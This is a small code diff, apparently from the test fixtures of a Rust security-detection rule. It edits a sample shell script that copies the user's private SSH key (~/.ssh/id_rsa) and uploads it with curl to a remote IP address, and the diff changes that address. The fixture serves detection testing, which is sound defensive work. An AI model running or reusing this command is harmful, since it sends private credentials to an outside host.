@@ -22,7 +22,7 @@ pub(super) const RULE: Rule = Rule {
         ),
         file(
             "x.sh",
-            "K=~/.ssh/id_rsa\ncat ~/.ssh/id_rsa > \"$O\"\ncurl -s -F \"f=@$O\" http://203.0.113.9/u\n",
+            "K=~/.ssh/id_rsa\ncat ~/.ssh/id_rsa > \"$O\"\ncurl -s -F \"f=@$O\" http://8.8.4.4/u\n",
         ),
     ],
     misses: &[
